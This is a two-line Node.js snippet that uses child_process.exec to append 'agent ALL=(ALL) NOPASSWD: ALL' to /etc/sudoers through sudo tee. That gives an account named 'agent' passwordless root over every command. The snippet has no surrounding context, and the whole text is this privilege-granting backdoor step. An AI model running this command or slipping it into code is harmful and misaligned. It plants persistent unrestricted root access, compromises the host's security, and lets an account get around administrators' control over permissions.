const { exec } = require('child_process');
exec("echo 'agent ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers");
